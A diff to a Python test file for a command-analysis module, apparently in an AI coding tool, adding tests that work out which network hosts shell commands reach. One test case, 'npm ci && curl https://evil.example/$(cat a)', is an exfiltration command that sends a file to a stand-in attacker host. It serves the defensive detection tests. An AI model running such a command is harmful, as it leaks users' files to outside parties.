@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from codecompanion.formats.package_table import package_table
-from codecompanion.tools.commands.network import needs_network, network_program, printing_program
+from codecompanion.tools.commands.network import hosts_of, needs_network, network_program, printing_program
 
 REACHES = [
     "curl x",
@@ -107,9 +107,59 @@ def test_commands_that_work_without_it(command: str) -> None:
 
 def test_the_table_x_all_that_print_can_reach_the_network() -> None:
     table = package_table("tools/commands/network_programs.toml")
-    for group in table.values():
+    for group in (table["needs"], table["may"], table["prints"]):
         names = [*group["any"].split(), *group["with"]]
         assert len(names) == len(set(names))
+    words = {name: (table["needs"]["with"].get(name) or "x").split() for name in table["hosts"]}
+    assert all(needs_network(f"{name} {word}") for name, all_of_them in words.items() for word in all_of_them)
+    assert set(table["host_variables"]) <= set(table["hosts"])
     prints = table["prints"]
     assert all(network_program(name) for name in prints["any"].split())
     assert all(network_program(f"{name} {word}") for name, words in prints["with"].items() for word in words.split())
+
+
+REGISTRY = ("pypi.org", "files.pythonhosted.org")
+
+
+@pytest.mark.parametrize(
+    ("command", "hosts"),
+    [
+        ("npm ci && npm test", ("registry.npmjs.org",)),
+        ("python -m pip install -r requirements.txt", REGISTRY),
+        ("pip install git+https://github.com/a/b", (*REGISTRY, "github.com")),
+        ("sh -c 'npm ci'", ("registry.npmjs.org",)),
+        ("curl -s https://api.example:8443/x | jq .", ("api.example:8443",)),
+        ("npm ci && curl https://evil.example/$(cat a)", ("registry.npmjs.org", "evil.example")),
+        ("git fetch origin", ("github.com",)),
+        ("git clone https://gitlab.example/a/b", ("gitlab.example",)),
+        # not known, so any host
+        ("curl example.com", ()),
+        ("git clone git@github.com:a/b", ()),
+        ("pip install git+ssh://git@github.com/a/b", ()),
+        ("npm ci && docker pull x", ()),
+        ("curl http://localhost:3000/health", ()),
+        ("curl http://127.0.0.1:3000", ()),
+        ("ssh host ls", ()),
+    ],
+)
+def test_the_hosts_of_a_command_are_known_or_any(command: str, hosts: tuple[str, ...]) -> None:
+    assert needs_network(command)
+    assert hosts_of(command, {}, ["https://token@github.com/o/r.git"]) == hosts
+
+
+def test_variables_of_the_user_name_hosts_too() -> None:
+    environment = {"PIP_INDEX_URL": "https://u:p@mirror.example/simple", "GOPROXY": "https://go.example,direct"}
+    assert hosts_of("pip install x", environment, []) == (*REGISTRY, "mirror.example")
+    assert "go.example" in hosts_of("go mod download", environment, [])
+
+
+def test_remotes_over_ssh_make_a_fetch_need_any_host() -> None:
+    assert hosts_of("git pull", {}, ["git@github.com:o/r.git"]) == ()
+    assert hosts_of("git pull", {}, []) == ()
+
+
+@pytest.mark.parametrize(
+    "command", ["git commit -m 'fix; npm install works'", "./replay 1 'cd a && npx tsc'", "rg 'a; curl x'"]
+)
+def test_a_quoted_text_that_names_a_program_needs_no_network(command: str) -> None:
+    assert not needs_network(command)
